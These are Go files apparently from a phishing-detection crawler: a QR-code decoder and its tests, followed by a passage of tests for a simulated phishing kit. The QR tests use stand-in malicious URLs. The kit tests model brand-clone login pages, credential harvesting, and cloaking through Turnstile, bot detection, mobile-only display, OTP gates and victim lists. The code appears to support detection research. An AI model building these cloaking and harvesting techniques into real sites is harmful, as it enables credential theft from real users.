		return nil, fmt.Errorf("qrcode: matrix has %d modules, want %d", len(m.Modules), size*size)
	}
	version := (size - 17) / 4
	if version > MaxVersion {
		return nil, fmt.Errorf("qrcode: version %d exceeds supported maximum %d", version, MaxVersion)
	}
	level, mask, err := readFormatInfo(m)
	if err != nil {
		return nil, err
	}

	// Rebuild the function map so data modules can be identified, then
	// unmask a working copy.
	work := &Matrix{Version: version, Level: level, Size: size, Modules: make([]bool, size*size)}
	function := make([]bool, size*size)
	placeFunctionPatterns(work, function, version)
	data := m.Clone()
	applyMask(data, function, mask)

	// Read codeword bits with the placement zigzag.
	spec := ecSpec(version, level)
	totalCodewords := spec.DataCodewords() + spec.TotalBlocks()*spec.ECPerBlock
	bitsSeq := readData(data, function, totalCodewords*8)
	codewords := make([]byte, totalCodewords)
	for i, b := range bitsSeq {
		if b {
			codewords[i/8] |= 1 << uint(7-i%8)
		}
	}

	payload, corrected, err := decodeCodewords(codewords, version, level)
	if err != nil {
		return nil, err
	}
	return &Decoded{Payload: payload, Version: version, Level: level, Mask: mask, Corrected: corrected}, nil
}

// readFormatInfo recovers (level, mask) from either format copy, accepting
// up to 3 bit errors against the 32 valid codewords.
func readFormatInfo(m *Matrix) (ECLevel, int, error) {
	size := m.Size
	read := func(coords [15][2]int) int {
		v := 0
		for _, c := range coords {
			v <<= 1
			if m.At(c[0], c[1]) {
				v |= 1
			}
		}
		return v
	}
	coordsA := [15][2]int{
		{8, 0}, {8, 1}, {8, 2}, {8, 3}, {8, 4}, {8, 5}, {8, 7}, {8, 8},
		{7, 8}, {5, 8}, {4, 8}, {3, 8}, {2, 8}, {1, 8}, {0, 8},
	}
	var coordsB [15][2]int
	for i := 0; i < 7; i++ {
		coordsB[i] = [2]int{8, size - 1 - i}
	}
	for i := 7; i < 15; i++ {
		coordsB[i] = [2]int{size - 15 + i, 8}
	}
	for _, raw := range []int{read(coordsA), read(coordsB)} {
		bestDist := 16
		bestLevel := ECLow
		bestMask := 0
		for lv := 0; lv < 4; lv++ {
			for mask := 0; mask < 8; mask++ {
				level := ecLevelFromFormatBits(lv)
				want := formatInfo(level, mask)
				d := bits.OnesCount32(uint32(raw ^ want))
				if d < bestDist {
					bestDist = d
					bestLevel = level
					bestMask = mask
				}
			}
		}
		if bestDist <= 3 {
			return bestLevel, bestMask, nil
		}
	}
	return 0, 0, ErrInvalidFormat
}

// readData extracts n bits from non-function modules in placement order.
func readData(m *Matrix, function []bool, n int) []bool {
	size := m.Size
	out := make([]bool, 0, n)
	upward := true
	for right := size - 1; right >= 1; right -= 2 {
		if right == 6 {
			right = 5
		}
		for i := 0; i < size; i++ {
			y := i
			if upward {
				y = size - 1 - i
			}
			for _, x := range []int{right, right - 1} {
				if function[y*size+x] {
					continue
				}
				if len(out) < n {
					out = append(out, m.At(x, y))
				}
			}
		}
		upward = !upward
	}
	return out
}

// decodeCodewords deinterleaves, error-corrects, and parses the payload.
func decodeCodewords(codewords []byte, version int, level ECLevel) (string, int, error) {
	spec := ecSpec(version, level)
	// Block layout in group order.
	var dataLens []int
	for _, g := range spec.Groups {
		for b := 0; b < g.Num; b++ {
			dataLens = append(dataLens, g.Data)
		}
	}
	numBlocks := len(dataLens)
	blocks := make([][]byte, numBlocks)
	for i := range blocks {
		blocks[i] = make([]byte, 0, dataLens[i]+spec.ECPerBlock)
	}
	// Deinterleave data codewords.
	maxData := 0
	for _, l := range dataLens {
		if l > maxData {
			maxData = l
		}
	}
	pos := 0
	for i := 0; i < maxData; i++ {
		for b := 0; b < numBlocks; b++ {
			if i < dataLens[b] {
				if pos >= len(codewords) {
					return "", 0, fmt.Errorf("qrcode: truncated codeword stream")
				}
				blocks[b] = append(blocks[b], codewords[pos])
				pos++
			}
		}
	}
	// Deinterleave EC codewords.
	for i := 0; i < spec.ECPerBlock; i++ {
		for b := 0; b < numBlocks; b++ {
			if pos >= len(codewords) {
				return "", 0, fmt.Errorf("qrcode: truncated codeword stream")
			}
			blocks[b] = append(blocks[b], codewords[pos])
			pos++
		}
	}
	// Error-correct each block and concatenate the data portions.
	gf := newGFTables()
	corrected := 0
	var data []byte
	for b, block := range blocks {
		n, err := gf.rsDecode(block, spec.ECPerBlock)
		if err != nil {
			return "", 0, fmt.Errorf("qrcode: block %d: %w", b, err)
		}
		corrected += n
		data = append(data, block[:dataLens[b]]...)
	}
	payload, err := parseSegments(data, version)
	if err != nil {
		return "", 0, err
	}
	return payload, corrected, nil
}

// parseSegments parses the decoded data bit stream into the payload string.
func parseSegments(data []byte, version int) (string, error) {
	r := &bitReader{data: data}
	var out []byte
	for r.remaining() >= 4 {
		ind, err := r.readBits(4)
		if err != nil {
			return "", err
		}
		if ind == 0 { // terminator
			break
		}
		var mode Mode
		switch ind {
		case 0b0001:
			mode = ModeNumeric
		case 0b0010:
			mode = ModeAlphanumeric
		case 0b0100:
			mode = ModeByte
		default:
			return "", fmt.Errorf("qrcode: unsupported mode indicator %04b", ind)
		}
		count, err := r.readBits(charCountBits(mode, version))
		if err != nil {
			return "", err
		}
		switch mode {
		case ModeNumeric:
			for count > 0 {
				take := min(count, 3)
				width := []int{0, 4, 7, 10}[take]
				v, err := r.readBits(width)
				if err != nil {
					return "", err
				}
				out = append(out, formatDigits(v, take)...)
				count -= take
			}
		case ModeAlphanumeric:
			for count > 0 {
				if count >= 2 {
					v, err := r.readBits(11)
					if err != nil {
						return "", err
					}
					if v/45 >= 45 {
						return "", fmt.Errorf("qrcode: invalid alphanumeric pair %d", v)
					}
					out = append(out, _alphanumericCharset[v/45], _alphanumericCharset[v%45])
					count -= 2
				} else {
					v, err := r.readBits(6)
					if err != nil {
						return "", err
					}
					if v >= 45 {
						return "", fmt.Errorf("qrcode: invalid alphanumeric value %d", v)
					}
					out = append(out, _alphanumericCharset[v])
					count--
				}
			}
		case ModeByte:
			for i := 0; i < count; i++ {
				v, err := r.readBits(8)
				if err != nil {
					return "", err
				}
				out = append(out, byte(v))
			}
		}
	}
	return string(out), nil
}

func formatDigits(v, n int) []byte {
	out := make([]byte, n)
	for i := n - 1; i >= 0; i-- {
		out[i] = byte('0' + v%10)
		v /= 10
	}
	return out
}
