package qrcode

import (
	"math/rand"
	"strings"
	"testing"
	"testing/quick"

	"crawlerbox/internal/imaging"
)

func TestGFMultiplication(t *testing.T) {
	gf := newGFTables()
	tests := []struct {
		a, b, want byte
	}{
		{0, 5, 0},
		{5, 0, 0},
		{1, 7, 7},
		{2, 2, 4},
		{0x80, 2, 0x1D}, // overflow reduces by the QR polynomial
	}
	for _, tt := range tests {
		if got := gf.mul(tt.a, tt.b); got != tt.want {
			t.Errorf("mul(%#x, %#x) = %#x, want %#x", tt.a, tt.b, got, tt.want)
		}
	}
}

func TestGFMulDivInverseProperty(t *testing.T) {
	gf := newGFTables()
	f := func(a, b byte) bool {
		if b == 0 {
			return true
		}
		return gf.div(gf.mul(a, b), b) == a
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestGFMulCommutativeAssociative(t *testing.T) {
	gf := newGFTables()
	f := func(a, b, c byte) bool {
		return gf.mul(a, b) == gf.mul(b, a) &&
			gf.mul(gf.mul(a, b), c) == gf.mul(a, gf.mul(b, c))
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestRSEncodeKnownVector(t *testing.T) {
	// The canonical "HELLO WORLD" v1-M test vector from the QR tutorial
	// literature: data codewords below produce these 10 EC codewords.
	gf := newGFTables()
	data := []byte{
		0x20, 0x5B, 0x0B, 0x78, 0xD1, 0x72, 0xDC, 0x4D,
		0x43, 0x40, 0xEC, 0x11, 0xEC, 0x11, 0xEC, 0x11,
	}
	want := []byte{0xC4, 0x23, 0x27, 0x77, 0xEB, 0xD7, 0xE7, 0xE2, 0x5D, 0x17}
	got := gf.rsEncode(data, 10)
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("rsEncode codeword %d = %#x, want %#x (full: %x)", i, got[i], want[i], got)
		}
	}
}

func TestRSDecodeCorrectsErrors(t *testing.T) {
	gf := newGFTables()
	data := []byte("CRAWLERBOX TEST BLOCK 01")
	ec := gf.rsEncode(data, 16) // corrects up to 8 byte errors
	msg := append(append([]byte{}, data...), ec...)

	rng := rand.New(rand.NewSource(42))
	for numErrs := 0; numErrs <= 8; numErrs++ {
		corrupted := append([]byte{}, msg...)
		positions := rng.Perm(len(msg))[:numErrs]
		for _, p := range positions {
			corrupted[p] ^= byte(1 + rng.Intn(255))
		}
		n, err := gf.rsDecode(corrupted, 16)
		if err != nil {
			t.Fatalf("%d errors: rsDecode failed: %v", numErrs, err)
		}
		if n != numErrs {
			t.Errorf("%d errors: corrected %d", numErrs, n)
		}
		if string(corrupted[:len(data)]) != string(data) {
			t.Fatalf("%d errors: data not restored: %q", numErrs, corrupted[:len(data)])
		}
	}
}

func TestRSDecodeRejectsTooManyErrors(t *testing.T) {
	gf := newGFTables()
	data := []byte("ANOTHER BLOCK OF DATA HERE")
	ec := gf.rsEncode(data, 8) // corrects up to 4
	msg := append(append([]byte{}, data...), ec...)
	rng := rand.New(rand.NewSource(9))
	failures := 0
	const trials = 20
	for trial := 0; trial < trials; trial++ {
		corrupted := append([]byte{}, msg...)
		for _, p := range rng.Perm(len(msg))[:7] {
			corrupted[p] ^= byte(1 + rng.Intn(255))
		}
		if _, err := gf.rsDecode(corrupted, 8); err != nil {
			failures++
		} else if string(corrupted[:len(data)]) != string(data) {
			// A silent mis-correction would be a real bug; beyond-capacity
			// noise must either error or be a (vanishingly unlikely) true fix.
			failures++
		}
	}
	if failures < trials {
		t.Errorf("only %d/%d over-capacity corruptions were rejected", failures, trials)
	}
}

func TestRSEncodeDecodeProperty(t *testing.T) {
	gf := newGFTables()
	f := func(raw []byte, seed int64) bool {
		if len(raw) == 0 {
			return true
		}
		if len(raw) > 60 {
			raw = raw[:60]
		}
		const ecLen = 14
		ec := gf.rsEncode(raw, ecLen)
		msg := append(append([]byte{}, raw...), ec...)
		rng := rand.New(rand.NewSource(seed))
		n := rng.Intn(ecLen/2 + 1)
		for _, p := range rng.Perm(len(msg))[:n] {
			msg[p] ^= byte(1 + rng.Intn(255))
		}
		if _, err := gf.rsDecode(msg, ecLen); err != nil {
			return false
		}
		return string(msg[:len(raw)]) == string(raw)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

func TestChooseMode(t *testing.T) {
	tests := []struct {
		payload string
		want    Mode
	}{
		{"0123456789", ModeNumeric},
		{"HELLO WORLD", ModeAlphanumeric},
		{"HTTP://X.COM/A", ModeAlphanumeric},
		{"https://evil-site.com/", ModeByte},
		{"ABC abc", ModeByte},
		{"", ModeAlphanumeric},
	}
	for _, tt := range tests {
		if got := ChooseMode(tt.payload); got != tt.want {
			t.Errorf("ChooseMode(%q) = %v, want %v", tt.payload, got, tt.want)
		}
	}
}

func TestFormatInfoKnownValue(t *testing.T) {
	// Published reference: level M (00), mask 5 -> 0x40CE after masking.
	if got := formatInfo(ECMedium, 5); got != 0x40CE {
		t.Errorf("formatInfo(M, 5) = %#x, want 0x40CE", got)
	}
}

func TestVersionInfoKnownValue(t *testing.T) {
	// Published reference: version 7 -> 0x07C94.
	if got := versionInfo(7); got != 0x07C94 {
		t.Errorf("versionInfo(7) = %#x, want 0x07C94", got)
	}
}

func TestEncodeDecodeMatrixRoundTrip(t *testing.T) {
	payloads := []string{
		"https://evil-site.com/dhfYWfH",
		"HELLO WORLD",
		"0123456789012345",
		"xxx https://evil-site.com/",
		"[https://evil-site.com/",
		"https://login.acmetravel-verify.buzz/session?id=Zm9vYmFy&t=8jD2kQ",
		strings.Repeat("https://long.example/path", 4), // forces a higher version
	}
	for _, payload := range payloads {
		for _, level := range []ECLevel{ECLow, ECMedium, ECQuartile, ECHigh} {
			m, err := Encode(payload, level)
			if err != nil {
				t.Fatalf("Encode(%q, %v): %v", payload, level, err)
			}
			dec, err := DecodeMatrix(m)
			if err != nil {
				t.Fatalf("DecodeMatrix(%q, %v): %v", payload, level, err)
			}
			if dec.Payload != payload {
				t.Fatalf("round trip (%v) = %q, want %q", level, dec.Payload, payload)
			}
			if dec.Level != level {
				t.Errorf("decoded level = %v, want %v", dec.Level, level)
			}
			if dec.Version != m.Version {
				t.Errorf("decoded version = %d, want %d", dec.Version, m.Version)
			}
			if dec.Corrected != 0 {
				t.Errorf("clean matrix reported %d corrections", dec.Corrected)
			}
		}
	}
}

func TestEncodeVersionSelection(t *testing.T) {
	short, err := Encode("HI", ECLow)
	if err != nil {
		t.Fatal(err)
	}
	if short.Version != 1 {
		t.Errorf("tiny payload chose version %d, want 1", short.Version)
	}
	long, err := Encode(strings.Repeat("x", 200), ECLow)
	if err != nil {
		t.Fatal(err)
	}
	if long.Version < 7 {
		t.Errorf("200-byte payload chose version %d, want >= 7 (exercises version info)", long.Version)
	}
}

func TestEncodeTooLarge(t *testing.T) {
	_, err := Encode(strings.Repeat("x", 400), ECHigh)
	if err == nil {
		t.Fatal("encoding 400 bytes at level H should exceed version 10")
	}
}

func TestEncodeInvalidLevel(t *testing.T) {
	if _, err := Encode("x", ECLevel(0)); err == nil {
		t.Error("invalid EC level should error")
	}
	if _, err := Encode("x", ECLevel(9)); err == nil {
		t.Error("invalid EC level should error")
	}
}

func TestDecodeMatrixWithModuleDamage(t *testing.T) {
	// Flip random data modules; level H tolerates ~30% codeword damage.
	payload := "https://evil-site.com/dhfYWfH"
	m, err := Encode(payload, ECHigh)
	if err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewSource(77))
	damaged := m.Clone()
	// Flip 12 random modules away from the function-pattern regions.
	flipped := 0
	for flipped < 12 {
		x := rng.Intn(m.Size-18) + 9
		y := rng.Intn(m.Size-18) + 9
		damaged.Modules[y*m.Size+x] = !damaged.Modules[y*m.Size+x]
		flipped++
	}
	dec, err := DecodeMatrix(damaged)
	if err != nil {
		t.Fatalf("decode with module damage: %v", err)
	}
	if dec.Payload != payload {
		t.Fatalf("payload = %q, want %q", dec.Payload, payload)
	}
	if dec.Corrected == 0 {
		t.Error("expected nonzero corrections")
	}
}

func TestDecodeMatrixInvalidSize(t *testing.T) {
	m := &Matrix{Size: 20, Modules: make([]bool, 400)}
	if _, err := DecodeMatrix(m); err == nil {
		t.Error("size 20 should be rejected")
	}
	m = &Matrix{Size: 17 + 4*11, Modules: make([]bool, (17+44)*(17+44))}
	if _, err := DecodeMatrix(m); err == nil {
		t.Error("version 11 should be rejected as unsupported")
	}
}

// TestDecodeMatrixShapeMismatch is the regression for the taintflow finding:
// a matrix whose Modules slice disagrees with Size*Size must be rejected, not
// indexed out of range.
func TestDecodeMatrixShapeMismatch(t *testing.T) {
	for _, m := range []*Matrix{
		{Size: 21, Modules: nil},
		{Size: 21, Modules: make([]bool, 21*21-1)},
		{Size: 25, Modules: make([]bool, 21*21)},
	} {
		if _, err := DecodeMatrix(m); err == nil {
			t.Errorf("size %d with %d modules should be rejected", m.Size, len(m.Modules))
		}
	}
}

// TestDecodeImageMalformedRaster is the regression for the taintflow finding
// in the image path: rasters whose Pix disagrees with W*H (the shape hostile
// CBI bytes can produce) must fail cleanly before any buffer is sized.
func TestDecodeImageMalformedRaster(t *testing.T) {
	for _, img := range []*imaging.Image{
		nil,
		{W: 40, H: 40, Pix: nil},
		{W: -1, H: 40, Pix: make([]imaging.RGB, 1600)},
		{W: 40, H: 40, Pix: make([]imaging.RGB, 39*40)},
	} {
		if _, err := DecodeImage(img); err == nil {
			t.Errorf("malformed raster %+v should not decode", img)
		}
	}
}

func TestDecodeGarbageMatrixFails(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	m := &Matrix{Size: 25, Modules: make([]bool, 625)}
	for i := range m.Modules {
		m.Modules[i] = rng.Intn(2) == 0
	}
	if _, err := DecodeMatrix(m); err == nil {
		t.Error("random noise should not decode")
	}
}

func TestRenderAndDecodeImage(t *testing.T) {
	payloads := []string{
		"https://evil-site.com/dhfYWfH",
		"xxx https://evil-site.com/",
		"HELLO WORLD 123",
	}
	for _, payload := range payloads {
		for _, scale := range []int{3, 4, 6} {
			m, err := Encode(payload, ECMedium)
			if err != nil {
				t.Fatal(err)
			}
			img, err := Render(m, scale, 4)
			if err != nil {
				t.Fatal(err)
			}
			dec, err := DecodeImage(img)
			if err != nil {
				t.Fatalf("DecodeImage(%q, scale %d): %v", payload, scale, err)
			}
			if dec.Payload != payload {
				t.Errorf("image round trip = %q, want %q", dec.Payload, payload)
			}
		}
	}
}

func TestDecodeImageWithNoise(t *testing.T) {
	payload := "https://phish.ru/Zm9vYmFy"
	m, err := Encode(payload, ECQuartile)
	if err != nil {
		t.Fatal(err)
	}
	img, err := Render(m, 6, 4)
	if err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewSource(5))
	img.AddNoise(rng, 60)
	dec, err := DecodeImage(img)
	if err != nil {
		t.Fatalf("DecodeImage with noise: %v", err)
	}
	if dec.Payload != payload {
		t.Errorf("noisy image round trip = %q, want %q", dec.Payload, payload)
	}
}

func TestDecodeImageOffsetPlacement(t *testing.T) {
	// The QR code is pasted off-center into a larger message image,
	// as it would be inside an email screenshot.
	payload := "https://evil-site.com/q"
	m, err := Encode(payload, ECMedium)
	if err != nil {
		t.Fatal(err)
	}
	qr, err := Render(m, 4, 4)
	if err != nil {
		t.Fatal(err)
	}
	canvas := imaging.MustNew(400, 300, imaging.White)
	const offX, offY = 170, 60
	for y := 0; y < qr.H; y++ {
		for x := 0; x < qr.W; x++ {
			canvas.Set(offX+x, offY+y, qr.At(x, y))
		}
	}
	dec, err := DecodeImage(canvas)
	if err != nil {
		t.Fatalf("DecodeImage offset: %v", err)
	}
	if dec.Payload != payload {
		t.Errorf("offset round trip = %q, want %q", dec.Payload, payload)
	}
}

func TestDecodeImageNoCode(t *testing.T) {
	img := imaging.MustNew(100, 100, imaging.White)
	if _, err := DecodeImage(img); err == nil {
		t.Error("blank image should not decode")
	}
}

func TestRenderRejectsBadScale(t *testing.T) {
	m, err := Encode("x", ECLow)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Render(m, 0, 2); err == nil {
		t.Error("zero scale should error")
	}
}

func TestMaskPatternsDiffer(t *testing.T) {
	// All eight masks must produce distinct transformations of at least
	// one module in a 4x4 region.
	for a := 0; a < 8; a++ {
		for b := a + 1; b < 8; b++ {
			same := true
			for y := 0; y < 6 && same; y++ {
				for x := 0; x < 6 && same; x++ {
					if maskBit(a, x, y) != maskBit(b, x, y) {
						same = false
					}
				}
			}
			if same {
				t.Errorf("masks %d and %d identical on a 6x6 region", a, b)
			}
		}
	}
}

func TestMatrixStructuralInvariants(t *testing.T) {
	m, err := Encode("https://structure.example/check", ECMedium)
	if err != nil {
		t.Fatal(err)
	}
	size := m.Size
	// Finder cores must be dark; centers of rings light.
	for _, c := range [][2]int{{3, 3}, {size - 4, 3}, {3, size - 4}} {
		if !m.At(c[0], c[1]) {
			t.Errorf("finder center (%d,%d) not dark", c[0], c[1])
		}
	}
	// Timing pattern alternates.
	for i := 8; i < size-8; i++ {
		want := i%2 == 0
		if m.At(i, 6) != want {
			t.Errorf("horizontal timing at %d = %v, want %v", i, m.At(i, 6), want)
		}
		if m.At(6, i) != want {
			t.Errorf("vertical timing at %d = %v, want %v", i, m.At(6, i), want)
		}
	}
	// Dark module present.
	if !m.At(8, size-8) {
		t.Error("dark module missing")
	}
}

func TestEncodeDecodePropertyRandomPayloads(t *testing.T) {
	rng := rand.New(rand.NewSource(13))
	const chars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789:/.-_?=&"
	for trial := 0; trial < 30; trial++ {
		n := 1 + rng.Intn(120)
		b := make([]byte, n)
		for i := range b {
			b[i] = chars[rng.Intn(len(chars))]
		}
		payload := string(b)
		level := ECLevel(1 + rng.Intn(4))
		m, err := Encode(payload, level)
		if err != nil {
			t.Fatalf("Encode(%q, %v): %v", payload, level, err)
		}
		dec, err := DecodeMatrix(m)
		if err != nil {
			t.Fatalf("DecodeMatrix(%q, %v): %v", payload, level, err)
		}
		if dec.Payload != payload {
			t.Fatalf("round trip = %q, want %q", dec.Payload, payload)
		}
	}
}
