package phishkit

import (
	"context"

	"strings"
	"testing"
	"time"

	"crawlerbox/internal/botdetect"
	"crawlerbox/internal/browser"
	"crawlerbox/internal/htmlx"
	"crawlerbox/internal/imaging"
	"crawlerbox/internal/webnet"
)

var _epoch = time.Date(2024, 3, 1, 9, 0, 0, 0, time.UTC)

func newNet() *webnet.Internet {
	return webnet.NewInternet(webnet.NewClock(_epoch))
}

func newBrowser(net *webnet.Internet, seed int64) *browser.Browser {
	return browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), seed)
}

func TestLoginPageTemplateStructure(t *testing.T) {
	html := LoginPageHTML(BrandAcmeTravelTech, LoginPageOptions{
		PostURL: "/session", LogoURL: "https://x/logo.png", VictimEmail: "v@corp.example",
	})
	doc := htmlx.Parse(html)
	if !htmlx.HasPasswordInput(doc) {
		t.Error("template must contain a password input")
	}
	if len(htmlx.Find(doc, "form")) != 1 {
		t.Error("template must contain one form")
	}
	if !strings.Contains(html, "v@corp.example") {
		t.Error("victim email not pre-filled")
	}
	if !strings.Contains(html, BrandAcmeTravelTech.Accent) {
		t.Error("brand accent missing")
	}
}

func TestBrandSiteAndCloneLookAlike(t *testing.T) {
	// The cornerstone of the spear-phishing classifier: the kit clone's
	// screenshot fuzzy-matches the legitimate login page.
	net := newNet()
	legitURL := DeployBrandSite(net, BrandAcmeTravelTech)
	site := Deploy(net, SiteConfig{
		Host:  "acrne-travel.buzz",
		Brand: BrandAcmeTravelTech,
	})

	br1 := newBrowser(net, 1)
	legit, err := br1.Visit(context.Background(), legitURL)
	if err != nil {
		t.Fatal(err)
	}
	br2 := newBrowser(net, 2)
	phish, err := br2.Visit(context.Background(), site.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	m := imaging.DefaultMatcher()
	ok, dp, dd := m.Match(imaging.Sign(legit.Screenshot), imaging.Sign(phish.Screenshot))
	if !ok {
		t.Errorf("clone should fuzzy-match the brand page: pHash=%d dHash=%d", dp, dd)
	}
	// And a different brand's page must NOT match.
	otherURL := DeployBrandSite(net, BrandPayRoute)
	br3 := newBrowser(net, 3)
	other, err := br3.Visit(context.Background(), otherURL)
	if err != nil {
		t.Fatal(err)
	}
	if ok, _, _ := m.Match(imaging.Sign(legit.Screenshot), imaging.Sign(other.Screenshot)); ok {
		t.Error("different brands must not fuzzy-match")
	}
}

func TestCredentialHarvesting(t *testing.T) {
	net := newNet()
	site := Deploy(net, SiteConfig{Host: "harvest.buzz", Brand: BrandMicrosoft})
	// Post credentials the way the form would.
	_, err := net.Do(context.Background(), &webnet.Request{
		Method: "POST", Host: "harvest.buzz", Path: "/session",
		Body:     "email=victim%40corp.example&password=hunter2",
		ClientIP: "10.5.5.5",
		Headers:  map[string]string{"User-Agent": "UA"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(site.Harvested) != 1 {
		t.Fatalf("harvested = %d", len(site.Harvested))
	}
	if site.Harvested[0].Password != "hunter2" {
		t.Errorf("creds = %+v", site.Harvested[0])
	}
}

func TestTokenizedSpearPhish(t *testing.T) {
	net := newNet()
	site := Deploy(net, SiteConfig{
		Host:   "spear.buzz",
		Brand:  BrandAcmeTravelTech,
		Tokens: []string{"jdoe", "asmith"},
	})
	br := newBrowser(net, 1)
	res, err := br.Visit(context.Background(), site.LandingURL) // carries ?t=jdoe
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Fatal("valid token must reveal the page")
	}
	if !strings.Contains(res.HTML, "jdoe@corp.example") {
		t.Error("victim email not personalized from token")
	}
	br2 := newBrowser(net, 2)
	res2, err := br2.Visit(context.Background(), "https://spear.buzz/login")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("tokenless scan must see the benign page")
	}
}

func TestTurnstileGatedSite(t *testing.T) {
	net := newNet()
	ts := botdetect.NewTurnstile(net, "turnstile.example")
	site := Deploy(net, SiteConfig{
		Host:      "gated.buzz",
		Brand:     BrandOneDrive,
		Turnstile: ts,
	})
	// A clean browser passes the challenge and reaches the form.
	br := newBrowser(net, 1)
	res, err := br.Visit(context.Background(), site.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Errorf("clean browser should clear Turnstile; final=%q console=%v",
			res.FinalURL, res.Console)
	}
	// A headless bot is stuck at the challenge.
	p := browser.HumanChrome()
	p.Headless = true
	p.GPURenderer = "Google SwiftShader"
	bot := browser.New(net, p, net.AllocateIP(webnet.IPMobile), 2)
	res2, err := bot.Visit(context.Background(), site.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("headless bot must not reach the gated form")
	}
}

func TestTurnstilePlusTokenGate(t *testing.T) {
	net := newNet()
	ts := botdetect.NewTurnstile(net, "turnstile.example")
	site := Deploy(net, SiteConfig{
		Host:      "combo.buzz",
		Brand:     BrandOffice365,
		Turnstile: ts,
		Tokens:    []string{"tkA"},
	})
	br := newBrowser(net, 1)
	res, err := br.Visit(context.Background(), site.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Errorf("token+turnstile chain should clear: final=%q nav=%v",
			res.FinalURL, res.Navigations)
	}
}

func TestReCaptchaBackground(t *testing.T) {
	net := newNet()
	ts := botdetect.NewTurnstile(net, "turnstile.example")
	rc := botdetect.NewReCaptchaV3(net, "recaptcha.example")
	site := Deploy(net, SiteConfig{
		Host:      "double.buzz",
		Brand:     BrandMicrosoft,
		Turnstile: ts,
		ReCaptcha: rc,
	})
	br := newBrowser(net, 1)
	res, err := br.Visit(context.Background(), site.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Fatal("clean browser should reach the form")
	}
	// The background scorer must have seen the client without any visible
	// second challenge.
	v := rc.VerdictFor(br.ClientIP)
	if v.Bot {
		t.Errorf("background reCAPTCHA flagged a clean browser: %v", v.Reasons)
	}
}

func TestHotLoadedBrandAssetsLeaveReferralTrail(t *testing.T) {
	net := newNet()
	DeployBrandSite(net, BrandAcmeTravelTech)
	site := Deploy(net, SiteConfig{
		Host:               "hotload.buzz",
		Brand:              BrandAcmeTravelTech,
		HotLoadBrandAssets: true,
	})
	br := newBrowser(net, 1)
	if _, err := br.Visit(context.Background(), site.LandingURL); err != nil {
		t.Fatal(err)
	}
	// The brand's own traffic logs now show a request for its logo with a
	// foreign referer — the early-warning signal of Section V-A.
	var flagged bool
	for _, e := range net.TrafficTo(BrandAcmeTravelTech.Domain) {
		if strings.Contains(e.Request.Path, "logo") &&
			strings.Contains(e.Request.Header("Referer"), "hotload.buzz") {
			flagged = true
		}
	}
	if !flagged {
		t.Error("brand asset referral trail missing")
	}
}

func TestVictimCheckIntegration(t *testing.T) {
	net := newNet()
	site := Deploy(net, SiteConfig{
		Host:          "tracked.buzz",
		Brand:         BrandAcmeTravelTech,
		VictimCheckC2: "tracked.buzz",
	})
	site.AddVictim("target@corp.example")
	br := newBrowser(net, 1)
	// base64("target@corp.example") = dGFyZ2V0QGNvcnAuZXhhbXBsZQ==
	res, err := br.Visit(context.Background(), site.LandingURL+"#dGFyZ2V0QGNvcnAuZXhhbXBsZQ==")
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Errorf("listed victim must see the page; errors=%v", res.ScriptErrors)
	}
	br2 := newBrowser(net, 2)
	res2, err := br2.Visit(context.Background(), site.LandingURL) // no fragment
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("unlisted visitor must stay cloaked")
	}
}

func TestMobileOnlyQRSite(t *testing.T) {
	net := newNet()
	site := Deploy(net, SiteConfig{
		Host:       "qrlure.buzz",
		Brand:      BrandMicrosoft,
		MobileOnly: true,
	})
	desktop := newBrowser(net, 1)
	res, err := desktop.Visit(context.Background(), site.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res.DOM) {
		t.Error("desktop browser must see the benign page")
	}
	mobile := browser.HumanChrome()
	mobile.UserAgent = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0) Safari/604.1"
	mbr := browser.New(net, mobile, net.AllocateIP(webnet.IPMobile), 2)
	res2, err := mbr.Visit(context.Background(), site.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res2.DOM) {
		t.Error("mobile browser must see the phish")
	}
}

func TestOTPGatedSite(t *testing.T) {
	net := newNet()
	site := Deploy(net, SiteConfig{
		Host:    "otp.buzz",
		Brand:   BrandDocuSign,
		OTPCode: "445566",
	})
	br := newBrowser(net, 1)
	res, err := br.Visit(context.Background(), site.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res.DOM) {
		t.Error("crawler without the OTP must be stuck at the prompt")
	}
	// A victim who types the code (simulated by following the gated URL).
	br2 := newBrowser(net, 2)
	res2, err := br2.Visit(context.Background(), site.LandingURL+"?otp=445566")
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res2.DOM) {
		t.Error("correct OTP must reveal the page")
	}
}

func TestHueRotateSiteStillMatchesFuzzyHashes(t *testing.T) {
	net := newNet()
	legitURL := DeployBrandSite(net, BrandSkyBooker)
	site := Deploy(net, SiteConfig{
		Host:         "rotated.buzz",
		Brand:        BrandSkyBooker,
		HueRotateDeg: 4,
	})
	br1 := newBrowser(net, 1)
